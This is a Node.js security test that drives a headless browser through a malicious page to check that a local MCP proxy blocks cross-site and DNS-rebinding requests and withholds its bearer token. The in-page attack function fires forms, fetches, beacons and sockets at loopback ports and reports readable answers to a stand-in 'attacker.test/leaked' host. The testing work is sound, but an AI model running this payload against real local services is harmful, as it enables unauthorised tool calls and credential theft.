// node attack.mjs COMMAND…: see attack.sh.
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import http from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';

const browser = process.env.CHROMIUM ?? 'chromium';
const patience = 90_000;
const token = 'the-credential-of-the-target';

// What the server behind the proxies, the attacker's authorization server and the server that is not protected have been asked.
const seen = { upstream: [], attackersLogin: [], open: [] };

let passed = 0;
let failed = 0;

function check(name, holds, detail = '') {
  holds ? passed++ : failed++;
  console.log(`${holds ? 'ok' : 'FAILED'}: ${name}${holds ? '' : ` ${detail}`}`);
}

async function listen(answer) {
  const server = http.createServer(answer);
  await new Promise(resolve => server.listen(0, '127.0.0.1', resolve));
  return { server, port: server.address().port };
}

function note(list, request) {
  list.push({ line: `${request.method} ${request.url}`, authorization: request.headers.authorization, kind: new URL(request.url, 'http://x').searchParams.get('kind') });
}

// One origin with two tenants: the target, and the attacker's, whose 401 names the attacker's authorization server.
const attackersLogin = await listen((request, response) => {
  note(seen.attackersLogin, request);
  const origin = `http://127.0.0.1:${attackersLogin.port}`;
  response.setHeader('Content-Type', 'application/json');
  response.end(JSON.stringify({
    issuer: origin, resource: `http://127.0.0.1:${upstream.port}/evil/mcp`, authorization_servers: [origin], token_endpoint: `${origin}/token`,
    authorization_endpoint: `${origin}/authorize`, registration_endpoint: `${origin}/register`, code_challenge_methods_supported: ['S256'],
    access_token: 'the-attackers', token_type: 'Bearer', client_id: 'x',
  }));
});

const upstream = await listen((request, response) => {
  note(seen.upstream, request);
  request.resume().on('end', () => {
    const isTarget = request.url.startsWith('/v1/mcp');
    if (isTarget && request.headers.authorization === `Bearer ${token}`) {
      response.end('{"jsonrpc":"2.0","id":1,"result":{}}');
      return;
    }

    response.statusCode = 401;
    response.setHeader('WWW-Authenticate', `Bearer resource_metadata="http://127.0.0.1:${attackersLogin.port}/resource"`);
    response.end();
  });
});

// The same attacks go here too: what arrives shows which of them a browser lets through.
const open = await listen((request, response) => {
  note(seen.open, request);
  request.resume().on('end', () => response.end());
});

const proxies = [];

async function startProxy(...flags) {
  const [file, ...args] = process.argv.slice(2);
  const child = spawn(file, [...args, 'proxy', 'attacked', ...flags, '--remote-auth-store', 'none'], { stdio: ['ignore', 'pipe', 'pipe'] });
  const proxy = { child, errors: '' };
  proxies.push(proxy);
  child.stderr.on('data', bytes => { proxy.errors += bytes; });
  for await (const line of createInterface({ input: child.stdout })) {
    const started = / on port (\d+) /.exec(line);
    if (started) {
      proxy.port = Number(started[1]);
      return proxy;
    }
  }

  throw new Error(`The proxy has not started: ${proxy.errors}`);
}

// A given token goes with the target; the bare origin would sign in at whatever asks first.
const withToken = await startProxy('--target-uri', `http://127.0.0.1:${upstream.port}/v1/mcp`, '--remote-auth-bearer-token', token);
const wouldSignIn = await startProxy('--target-uri', `http://127.0.0.1:${upstream.port}`, '--remote-auth', '--remote-auth-skip-browser', '--remote-auth-callback-port', '0');

// Runs in the page. Every way in which a page can make a browser send a request, to each of the given ports, under each name of this machine.
async function attack(ports, leaked) {
  const later = [];
  const hosts = ['127.0.0.1', 'localhost', '[::1]', 'rebound.test'];
  const body = '{"jsonrpc":"2.0","id":1,"method":"tools/call"}';
  const add = (name, members) => document.body.append(Object.assign(document.createElement(name), members));
  const tell = kind => fetch(`${leaked}?kind=${kind}`, { mode: 'no-cors' });
  for (const port of ports) {
    for (const host of hosts) {
      for (const path of ['/v1/mcp', '/evil/mcp', '/mcp', '/']) {
        const url = kind => `http://${host}:${port}${path}?kind=${kind}`;
        add('img', { src: url('image') });
        add('script', { src: url('script') });
        add('link', { rel: 'stylesheet', href: url('style') });
        add('link', { rel: 'prefetch', href: url('prefetch') });
        add('iframe', { src: url('frame') });
        add('object', { data: url('object') });
        add('video', { src: url('video'), preload: 'auto' });
        add('iframe', { name: `f${port}${host}${path}` });
        for (const [method, enctype] of [['get', ''], ['post', 'text/plain'], ['post', 'application/x-www-form-urlencoded']]) {
          const form = Object.assign(document.createElement('form'), { action: url(`form-${method}`), method, enctype, target: `f${port}${host}${path}` });
          form.append(Object.assign(document.createElement('input'), { name: body, value: '' }));
          document.body.append(form);
          form.submit();
        }

        navigator.sendBeacon(url('beacon'), body);
        const readable = (kind, init) => later.push(fetch(url(kind), init).then(
          answer => answer.type !== 'opaque' && answer.status !== 403 && tell(kind), () => { }));
        readable('fetch', {});
        readable('fetch-opaque', { mode: 'no-cors', credentials: 'include' });
        readable('fetch-post', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body });
        readable('fetch-json', { method: 'POST', headers: { 'Content-Type': 'application/json', 'Mcp-Method': 'tools/call' }, body });
        const events = new EventSource(url('events'));
        events.onmessage = () => tell('events');
        try {
          new WebSocket(url('socket').replace('http', 'ws'));
        } catch {
          // The browser refuses it by itself.
        }
      }
    }
  }

  await Promise.allSettled(later);
  setTimeout(() => { location.href = `${leaked.replace('/leaked', '/done')}`; }, 4000); // what is under way gets there
}

const leaks = [];
let finish;
const finished = new Promise(resolve => { finish = resolve; });
const attacker = await listen((request, response) => {
  const { pathname, searchParams } = new URL(request.url, 'http://x');
  if (pathname === '/done') {
    response.end();
    finish(true);
  } else if (pathname === '/leaked') {
    leaks.push(searchParams.get('kind'));
    response.end();
  } else {
    const ports = [withToken.port, wouldSignIn.port, open.port];
    response.setHeader('Content-Type', 'text/html');
    response.end(`<!doctype html><body><script>(${attack})(${JSON.stringify(ports)}, 'http://attacker.test:${attacker.port}/leaked')</script>`);
  }
});

const profile = mkdtempSync(join(tmpdir(), 'attack-'));
const page = spawn(browser, [
  '--headless=new', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', `--user-data-dir=${profile}`,
  // The browser's own guard is off: what is tested is the proxy's. The second name is one that has been bound to loopback after the page was loaded.
  '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,HttpsUpgrades,HttpsFirstBalancedModeAutoEnable',
  '--host-resolver-rules=MAP attacker.test 127.0.0.1, MAP rebound.test 127.0.0.1',
  `http://attacker.test:${attacker.port}/`,
], { stdio: 'ignore' });
page.on('error', fault => { console.log(`${browser}: ${fault.message}`); finish(false); });
const timer = setTimeout(() => finish(false), patience);
const isDone = await finished;
clearTimeout(timer);
page.kill('SIGKILL');

const kinds = [...new Set(seen.open.map(request => request.kind))].filter(kind => kind);
check('the page has run to its end', isDone);
check(`a server that is not protected is reached in many ways (${kinds.join(', ')})`, kinds.length >= 10, `only ${kinds.length}`);
check('no request of the page reaches the server behind a proxy', seen.upstream.length === 0, JSON.stringify(seen.upstream.slice(0, 5)));
check('the page reads no answer of a proxy', leaks.length === 0, [...new Set(leaks)].join(' '));
check("nobody has asked the attacker's authorization server", seen.attackersLogin.length === 0, JSON.stringify(seen.attackersLogin.slice(0, 3)));
for (const proxy of [withToken, wouldSignIn]) {
  check('the proxy says that it has refused pages of other sites', /cross-site-not-allowed|host-not-allowed|origin-not-allowed/.test(proxy.errors), proxy.errors);
  check('no sign-in was offered', !/asks for a sign-in/.test(proxy.errors), proxy.errors);
}

const real = await fetch(`http://127.0.0.1:${withToken.port}/v1/mcp`, { method: 'POST', body: '{"jsonrpc":"2.0","id":1,"method":"ping"}' });
check('a real client is served afterwards, with the target’s own credential', real.status === 200 && seen.upstream.at(-1)?.authorization === `Bearer ${token}`,
  `${real.status} ${JSON.stringify(seen.upstream.at(-1))}`);

proxies.forEach(proxy => proxy.child.kill('SIGKILL'));
[attackersLogin, upstream, open, attacker].forEach(one => { one.server.closeAllConnections(); one.server.close(); });
rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
console.log(`${passed} passed, ${failed} failed`);
process.exit(failed === 0 ? 0 : 1);
